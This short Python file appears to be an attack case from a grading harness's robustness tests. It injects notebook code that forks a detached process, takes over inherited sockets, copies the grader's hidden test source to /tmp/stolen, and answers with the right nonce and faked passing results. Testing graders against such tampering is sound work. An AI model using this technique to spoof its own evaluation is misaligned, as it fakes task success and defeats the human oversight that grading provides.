from __future__ import annotations

from nbformat import NotebookNode

from tests.graders.attacks.tools import first

WHY = "A process left behind reads the hidden test from each socket, and answers in its place with the right nonce."
FLAG = None

CODE = r"""
import json, os, select, socket, stat
if os.fork() == 0:
    if os.fork() == 0:
        ours = []
        for fd in range(3, 200):
            try:
                if stat.S_ISSOCK(os.fstat(fd).st_mode):
                    ours.append(socket.socket(fileno=fd))
            except OSError:
                pass
        for _ in range(50):
            for sock in select.select(ours, [], [], 0.2)[0]:
                line = sock.recv(1 << 16)
                if not line:
                    ours.remove(sock)
                    continue
                order = json.loads(line)
                open("/tmp/stolen", "a").write(order["source"])
                sock.sendall(json.dumps({"canary": order["nonce"], "raised": True}).encode() + b"\n")
                sock.sendall(b'{"value": true}\n' * order["source"].count("expect("))
                sock.sendall(b'{"end": true, "error": null}\n')
    os._exit(0)
"""


def attack(notebook: NotebookNode) -> None:
    first(notebook, CODE)
